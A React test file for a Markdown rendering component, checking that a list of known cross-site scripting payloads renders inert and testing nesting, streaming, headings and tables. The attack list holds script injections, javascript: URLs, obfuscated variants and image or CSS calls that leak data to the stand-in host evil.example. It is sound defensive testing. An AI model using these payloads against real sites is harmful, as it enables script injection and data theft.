import { render, screen, within } from "@testing-library/react";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { Markdown } from "../../../src/components/markdown/markdown.js";

const show = (text: string, streaming = false) => render(<Markdown text={text} streaming={streaming} />).container;

/** Known attacks on markdown renderers: scripts, addresses, attributes, entities, nesting. */
const attacks: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href=javascript:alert(1)>x</a>",
  "<style>*{background:url(https://evil.example)}</style>",
  '<form action="https://evil.example"><input name=a></form>',
  "<details open ontoggle=alert(1)>",
  "text <b onclick=alert(1)>bold</b> text",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://example.com/1)",
  "[x](//evil.example)",
  "[x](/sign-out)",
  "[x](?a=b)",
  "[x](# 'onmouseover=alert(1)')",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x](https://evil.example/?secret=1)",
  "![x][ref]\n\n[ref]: https://evil.example/leak.png",
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "<javascript:alert(1)>",
  '<https://example.com/"onmouseover=alert(1)>',
  "```html\n<script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "| <img src=x onerror=alert(1)> |\n| - |\n| [x](javascript:alert(1)) |",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<!-- <script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "- <object data=javascript:alert(1)>\n  - <embed src=javascript:alert(1)>",
];

/** Parts of the page that could run, load or navigate. */
function dangersIn(container: HTMLElement): readonly string[] {
  const active = "script, style, iframe, object, embed, form, img, base, meta, link";
  const dangers = [...container.querySelectorAll(active)].map((element) => element.outerHTML);
  for (const element of container.querySelectorAll("*")) {
    for (const { name } of element.attributes) if (/^on|^style$|^srcdoc$/i.test(name)) dangers.push(element.outerHTML);
    const href = element.getAttribute("href");
    if (href !== null && !/^(https?:|mailto:)/.test(href)) dangers.push(element.outerHTML);
  }
  for (const link of container.querySelectorAll("a")) {
    if (link.target !== "_blank" || link.rel !== "noopener noreferrer") dangers.push(link.outerHTML);
  }
  return dangers;
}

describe("Markdown, against attacks", () => {
  it.each(attacks)("shows and never runs %j", (attack) => {
    expect([false, true].flatMap((streaming) => dangersIn(show(attack, streaming)))).toEqual([]);
  });

  it("stays inert however attacks are joined and cut", () => {
    const joined = fc.array(fc.constantFrom(...attacks, "\n\n", "**", "`", "> ", "- ", "["), { maxLength: 8 });
    fc.assert(
      fc.property(joined, fc.nat(), (parts, cut) => {
        const text = parts.join("");
        const { container, unmount } = render(<Markdown text={text.slice(0, cut % (text.length + 1))} streaming />);
        expect(dangersIn(container)).toEqual([]);
        unmount();
      }),
      { numRuns: 300 },
    );
  });

  it("shows HTML as the text that it is", () => {
    expect(show("<b onclick=x>bold</b>")).toHaveTextContent("<b onclick=x>bold</b>");
  });

  it("shows nesting beyond all measure instead of failing", () => {
    for (const deep of [">".repeat(20_000), "- a\n".repeat(3), `${"[".repeat(2000)}x`, "**a ".repeat(2000)]) {
      expect(show(deep).textContent).not.toBe("");
    }
  });

  it.each([50, 5_000])("shows %i levels of lists, quotes and marks, with all words", (levels) => {
    const lists = Array.from({ length: Math.min(levels, 400) }, (_, index) => `${"  ".repeat(index)}- word`).join("\n");
    const words = (container: HTMLElement) => container.textContent?.match(/word/g)?.length;
    expect(words(show(lists))).toBe(Math.min(levels, 400));
    for (const text of [
      `${"- ".repeat(levels)}word`,
      `${"> ".repeat(levels)}word`,
      `${"*_".repeat(levels)}word${"_*".repeat(levels)}`,
      `${"[".repeat(levels)}word${"](a)".repeat(levels)}`,
    ]) {
      const container = show(text, true);
      expect(words(container)).toBe(1);
      expect(container.querySelectorAll("ul, blockquote").length).toBeLessThan(40);
    }
  });

  it("shows hidden characters in the words and titles of links", () => {
    const planted = "x\u202Efdp.exe";
    const container = show(
      `[${planted} **${planted}** \`${planted}\`](https://a.example "${planted}") ![${planted}](https://b.example)`,
    );
    for (const link of container.querySelectorAll("a")) expect(link.outerHTML).not.toContain("\u202E");
    expect(container).toHaveTextContent("x[U+202E]fdp.exe");
  });

  it("shows marks without number as text instead of pairing each with each", () => {
    const text = "a*".repeat(100_000);
    expect(show(text).textContent).toBe(text);
  });
});

describe("Markdown", () => {
  it("loads no image unless the host allows its address", () => {
    const allow = (url: string) => url.startsWith("https://ours.example/");
    const text = "![ours](https://ours.example/a.png) ![theirs](https://evil.example/b.png)";
    const { container } = render(<Markdown text={text} allowImage={allow} />);
    expect([...container.querySelectorAll("img")].map((image) => image.src)).toEqual(["https://ours.example/a.png"]);
    expect(screen.getByRole("link", { name: "Image: theirs" })).toHaveAttribute("href", "https://evil.example/b.png");
  });

  it.each([
    [0, "H1"],
    [2.4, "H2"],
    [Number.NaN, "H1"],
    [9, "H6"],
  ])("takes a level of headings that there is: %d", (level, name) => {
    render(<Markdown text="# One" headingLevel={level} />);
    expect(screen.getByText("One").closest(".sv-md")?.tagName).toBe(name);
  });

  it("keeps the outline of the page: headings begin at the host's level", () => {
    const { unmount } = render(<Markdown text={"Words\n\n## One\n\n### Two\n\n# Three"} />);
    expect(screen.getAllByRole("heading").map(({ tagName }) => tagName)).toEqual(["H3", "H4", "H3"]);
    unmount();
    render(<Markdown text={"# One\n\n## Two"} headingLevel={4} />);
    expect(screen.getByRole("heading", { name: "One", level: 4 })).toBeVisible();
    expect(screen.getByRole("heading", { name: "Two", level: 5 })).toBeVisible();
  });

  it("shows task lists with their state in words", () => {
    render(<Markdown text={"- [ ] write\n- [x] read"} />);
    expect(screen.getByRole("checkbox", { name: "To do" })).not.toBeChecked();
    expect(screen.getByRole("checkbox", { name: "Done" })).toBeChecked();
  });

  it("shows tables with their headers and the direction of their columns", () => {
    render(<Markdown text={"| a | b |\n| - | -: |\n| 1 | **2** |"} />);
    const table = within(screen.getByRole("table"));
    expect(table.getAllByRole("columnheader")).toHaveLength(2);
    expect(table.getByRole("cell", { name: "2" })).toHaveAttribute("data-align", "right");
  });

  it("finds the direction of each block by itself", () => {
    const container = show("مرحبا\n\nHello\n\n1. واحد");
    expect([...container.querySelectorAll("[dir='auto']")].map((block) => block.tagName)).toEqual(["P", "P", "OL"]);
  });

  it("reads character references as the characters they mean", () => {
    expect(show("a &amp; b &lt;c&gt; &#39;d&#x27; &unknown;")).toHaveTextContent("a & b <c> 'd' &unknown;");
  });

  it("names the language of a code block and copies its code", () => {
    const container = show("```ts title=x\nconst a = 1;\n```");
    expect(container.querySelector(".sv-code-language")).toHaveTextContent("ts");
    expect(screen.getByRole("button", { name: "Copy code" })).toBeEnabled();
    expect(container.querySelector("pre")?.textContent).toBe("const a = 1;");
  });

  it("keeps the elements of finished blocks while text is added", () => {
    const view = render(<Markdown text={"# One\n\nTwo\n\nThree"} streaming />);
    const heading = screen.getByRole("heading", { name: "One" });
    view.rerender(<Markdown text={"# One\n\nTwo\n\nThree goes on"} streaming />);
    expect(screen.getByRole("heading", { name: "One" })).toBe(heading);
    expect(view.container).toHaveTextContent("Three goes on");
  });

  it.each([
    ["**bold", "<strong>bold</strong>"],
    ["a **bold and *both", "<strong>bold and <em>both</em></strong>"],
    ["**bold*", "<strong>bold</strong>"],
    ["use `code", "code</code>"],
    ["~~gone", "<del>gone</del>"],
    ["see [the log](https://exa", "see the log"],
    ["see [the lo", "see the lo"],
    ["here **", ">here</p>"],
    ["a\n=", ">a</p>"],
    ["- one\n- **two", "<strong>two</strong>"],
    ["| a | b", "<th"],
    ["| a | b |\n| -", "<th"],
  ])("shows %j as if it were ended while it grows", (text, expected) => {
    expect(show(text, true).innerHTML.replaceAll(' class="sv-md"', "")).toContain(expected);
  });

  it.each(["2 * 3 * 4", "snake_case_name", "a [1] b", "5 < 6 & 7", "array[0", "use `*` here"])(
    "leaves %j as it is written while it grows",
    (text) => {
      const soft = show(text, true).textContent;
      expect([text, text.replaceAll("`", ""), text.replace("[0", "0")]).toContain(soft);
    },
  );
});
